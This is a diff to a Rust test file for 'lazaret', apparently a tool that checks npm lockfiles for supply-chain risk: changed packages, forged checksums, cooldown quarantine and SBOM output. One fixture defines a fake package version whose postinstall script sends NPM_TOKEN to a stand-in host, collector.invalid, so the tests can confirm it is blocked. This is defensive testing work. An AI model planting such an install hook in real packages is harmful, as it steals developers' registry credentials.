@@ -1,6 +1,7 @@
 //! `lazaret check`: exit codes, formats, a base, waivers, a baseline.
 
 use crate::harness::{Home, Said, malicious};
+use lazaret_testing::{FakeNpm, Npm};
 use serde_json::{Value, json};
 use std::path::Path;
 use std::process::Command;
@@ -52,7 +53,7 @@ fn home() -> Home {
 }
 
 fn check(home: &Home, arguments: &[&str]) -> Said {
-    let all: Vec<&str> = ["check", "--data", "data"]
+    let all: Vec<&str> = ["check", "--data", "data", "--offline"]
         .iter()
         .chain(arguments)
         .copied()
@@ -284,4 +285,199 @@ fn a_dry_run_tells_what_a_mirror_would_hold() {
         .stdout
         .replace(&said.stdout[since..since + 10], "[today]");
     insta::assert_snapshot!("check-dry-run", text);
+}
+
+/// Two packages whose newer versions differ: one harmless, one that steals a token when it is installed.
+fn registry() -> FakeNpm {
+    let theft = "const https = require('https');\nhttps.get('https://collector.invalid/?t=' + process.env.NPM_TOKEN);\n";
+    Npm::new()
+        .package("rope", |package| {
+            package
+                .version("1.0.0", |release| {
+                    release.file("index.js", "module.exports = 1\n")
+                })
+                .version("1.0.1", |release| {
+                    release
+                        .file("index.js", "module.exports = 1\n")
+                        .script("postinstall", "node setup.js")
+                        .file("setup.js", theft)
+                })
+        })
+        .package("fibre", |package| {
+            package
+                .version("2.0.0", |release| {
+                    release.file("index.js", "module.exports = 2\n")
+                })
+                .version("2.0.1", |release| {
+                    release.file("index.js", "module.exports = 3\n")
+                })
+        })
+        .start_blocking()
+}
+
+/// A lockfile with the registry's own checksums and addresses.
+fn locked(npm: &FakeNpm, packages: &[(&str, &str)]) -> String {
+    let mut text: Value = serde_json::from_str(&lockfile(packages)).unwrap();
+    for (name, version) in packages {
+        let entry = &mut text["packages"][format!("node_modules/{name}")];
+        entry["integrity"] = json!(npm.integrity(name, version));
+        entry["resolved"] = json!(format!("{}/{name}/-/{name}-{version}.tgz", npm.url()));
+    }
+    format!("{}\n", serde_json::to_string_pretty(&text).unwrap())
+}
+
+fn check_online(home: &Home, npm: &FakeNpm, arguments: &[&str]) -> Said {
+    let url = npm.url();
+    let first = ["check", "--data", "data", "--upstream", &url];
+    let all: Vec<&str> = first.iter().chain(arguments).copied().collect();
+    home.run_with(&all, &[("PATH", "/usr/local/bin:/usr/bin:/bin")])
+}
+
+#[test]
+fn what_a_change_brings_in_is_inspected() {
+    let (home, npm) = (home(), registry());
+    home.write(
+        "before.json",
+        locked(&npm, &[("fibre", "2.0.0"), ("rope", "1.0.0")]),
+    );
+    home.write(
+        "package-lock.json",
+        locked(&npm, &[("fibre", "2.0.1"), ("rope", "1.0.0")]),
+    );
+    let base = ["package-lock.json", "--base-file", "before.json"];
+    let said = check_online(&home, &npm, &base);
+    assert_eq!(said.code, Some(0), "{}{}", said.stdout, said.stderr);
+    assert!(
+        said.stdout.ends_with("changes 1 to review\n"),
+        "{}",
+        said.stdout
+    );
+    home.write(
+        "package-lock.json",
+        locked(&npm, &[("fibre", "2.0.1"), ("rope", "1.0.1")]),
+    );
+    let said = check_online(&home, &npm, &base);
+    assert_eq!(said.code, Some(1), "{}{}", said.stdout, said.stderr);
+    assert!(
+        said.stdout.contains(
+            "error[behaviour]: rope@1.0.1, which replaces 1.0.0, would be blocked for what it does"
+        ),
+        "{}",
+        said.stdout
+    );
+    let markdown = check_online(
+        &home,
+        &npm,
+        &[&base[..], &["--format", "markdown"]].concat(),
+    );
+    assert!(
+        markdown.stdout.contains("credential-exfiltration"),
+        "{}",
+        markdown.stdout
+    );
+    let json = check_online(&home, &npm, &[&base[..], &["--format", "json"]].concat());
+    let json: Value = serde_json::from_str(&json.stdout).unwrap();
+    assert_eq!(json["inspections"].as_array().unwrap().len(), 2);
+    assert_eq!(json["status"], "failed");
+    npm.offline();
+    let said = check_online(&home, &npm, &base);
+    assert_eq!(said.code, Some(4), "nobody could be asked: {}", said.stdout);
+}
+
+#[test]
+fn a_checksum_that_is_not_the_registrys_is_found() {
+    let (home, npm) = (home(), registry());
+    let honest = locked(&npm, &[("fibre", "2.0.0"), ("rope", "1.0.0")]);
+    home.write("package-lock.json", &honest);
+    let said = check_online(&home, &npm, &["--verify", "all"]);
+    assert_eq!(said.code, Some(0), "{}{}", said.stdout, said.stderr);
+    home.write(
+        "package-lock.json",
+        honest.replace(&npm.integrity("fibre", "2.0.0"), SHA512),
+    );
+    let said = check_online(&home, &npm, &["--verify", "all", "--format", "concise"]);
+    assert_eq!(said.code, Some(1), "{}", said.stdout);
+    assert!(
+        said.stdout
+            .contains("error checksum-differs: the checksum of fibre@2.0.0"),
+        "{}",
+        said.stdout
+    );
+    home.write("package-lock.json", locked_as(&honest, "9.9.9"));
+    let said = check_online(&home, &npm, &["--verify", "all", "--format", "concise"]);
+    assert!(
+        said.stdout.contains("the registry has no fibre@9.9.9"),
+        "{}",
+        said.stdout
+    );
+}
+
+/// With another version of fibre.
+fn locked_as(text: &str, version: &str) -> String {
+    text.replace("2.0.0", version)
+}
+
+#[test]
+fn a_dry_run_knows_ages_from_the_registry() {
+    let (home, npm) = (home(), registry());
+    npm.publish("fibre", "2.1.0", |release| {
+        release.published(&jiff::Timestamp::now().to_string())
+    });
+    home.write(
+        "package-lock.json",
+        locked(&npm, &[("fibre", "2.1.0"), ("rope", "1.0.0")]),
+    );
+    let said = check_online(&home, &npm, &["--policy-dry-run"]);
+    assert_eq!(said.code, Some(1), "{}{}", said.stdout, said.stderr);
+    assert!(
+        said.stdout.contains("quarantine fibre@2.1.0\n  cooldown: "),
+        "{}",
+        said.stdout
+    );
+    assert!(
+        said.stdout.ends_with("would hold 1 of 2 entries\n"),
+        "{}",
+        said.stdout
+    );
+}
+
+#[test]
+fn a_bill_of_materials_has_what_is_known_and_decided() {
+    let home = home();
+    home.write(
+        "package-lock.json",
+        lockfile(&[("boat", "1.0.0"), ("crane", "3.0.0")]),
+    );
+    let sbom = |arguments: &[&str]| {
+        let all: Vec<&str> = ["sbom", "--data", "data"]
+            .iter()
+            .chain(arguments)
+            .copied()
+            .collect();
+        home.run(&all)
+    };
+    let said = sbom(&[]);
+    assert_eq!(said.code, Some(0), "{}", said.stderr);
+    let document: Value = serde_json::from_str(&said.stdout).unwrap();
+    assert_eq!(document["bomFormat"], "CycloneDX");
+    assert_eq!(document["components"].as_array().unwrap().len(), 2);
+    assert_eq!(document["vulnerabilities"][0]["id"], "GHSA-aaaa-bbbb-cccc");
+    assert_eq!(
+        document["vulnerabilities"][0]["affects"][0]["ref"],
+        "pkg:npm/boat@1.0.0"
+    );
+    assert_eq!(said.stdout, sbom(&[]).stdout, "the same bytes");
+    home.write(
+        "lazaret-waivers.toml",
+        "[[waive]]\nid = \"CVE-2026-1\"\nreason = \"nothing of it is called\"\nforever = true\n",
+    );
+    let document: Value = serde_json::from_str(&sbom(&["package-lock.json"]).stdout).unwrap();
+    assert_eq!(
+        document["vulnerabilities"][0]["analysis"]["detail"],
+        "nothing of it is called"
+    );
+    let spdx: Value = serde_json::from_str(&sbom(&["--format", "spdx"]).stdout).unwrap();
+    assert_eq!(spdx["spdxVersion"], "SPDX-2.3");
+    std::fs::remove_file(home.path().join("package-lock.json")).unwrap();
+    assert_eq!(sbom(&[]).code, Some(3));
 }
